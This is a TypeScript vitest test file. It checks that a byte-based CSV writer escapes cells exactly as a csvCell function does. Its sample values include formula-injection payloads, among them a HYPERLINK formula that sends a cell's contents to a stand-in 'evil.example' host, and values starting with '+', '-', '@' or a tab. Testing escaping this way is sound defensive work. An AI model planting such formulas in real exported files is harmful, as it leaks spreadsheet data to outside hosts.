import { describe, expect, it } from 'vitest';
import { CsvBytes } from './csv-bytes.ts';
import { csvCell } from './exports.ts';

const VALUES = [
  '',
  '4111111111111111',
  'a,b "quoted"\nsecond line',
  '=HYPERLINK("http://evil.example/?x="&A1,"click")',
  '+1-555-0100 call me',
  '-2+3',
  '@SUM(A1:A9)',
  '\tleading tab',
  'carriage\rreturn only',
  '"starts with a quote',
  'ünïcödé ✓ 秘密, with a comma',
  '"',
  '""',
];

describe('CSV cells written as bytes', () => {
  it('writes exactly what csvCell writes, for every kind of value', () => {
    const csv = new CsvBytes(8, csvCell); // small, so that it grows on the way
    let expected = '';
    for (const v of VALUES) {
      csv.text('id,pan,');
      csv.cell(Buffer.from(v, 'utf8'));
      csv.text(',2026-01-02T03:04:05.000Z\r\n');
      expected += `id,pan,${csvCell(v)},2026-01-02T03:04:05.000Z\r\n`;
    }
    expect(csv.take().toString('utf8')).toBe(expected);
  });

  it('writes a value that is not valid UTF-8 as its string form, as before', () => {
    const invalid = Buffer.from([0x3d, 0xff, 0x2c, 0xc3]);
    const csv = new CsvBytes(64, csvCell);
    csv.cell(invalid);
    expect(csv.take().toString('utf8')).toBe(csvCell(invalid.toString('utf8')));
  });
});
